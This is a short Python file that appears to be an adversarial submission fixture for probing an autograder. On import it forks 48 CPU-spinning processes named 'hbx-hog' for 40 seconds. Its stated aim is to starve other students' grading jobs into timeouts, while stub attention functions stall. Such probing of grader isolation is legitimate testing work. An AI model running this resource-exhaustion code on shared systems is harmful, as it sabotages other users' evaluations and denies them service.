"""Spins 48 processes flat out for as long as its own job lasts (each of its calls sleeps 1 s), to
starve classmates graded at the same time into their call timeouts."""
# ---- the attack ----
def attack():
    started = 0
    for _ in range(48):
        try:
            if os.fork() == 0:
                _LIBC.prctl(15, b"hbx-hog", 0, 0, 0)
                end = time.monotonic() + 40
                while time.monotonic() < end:
                    pass
                os._exit(0)
            started += 1
        except OSError as exc:
            _note("fork", exc.strerror)
            break
    _note("spinners", started)


def softmax(x, dim=-1):
    time.sleep(1)  # a slow student: the spinners keep going meanwhile
    raise _stub("softmax")


def scaled_dot_product_attention(q, k, v, mask=None):
    time.sleep(1)
    raise _stub("scaled_dot_product_attention")


_try("attack at import", attack)
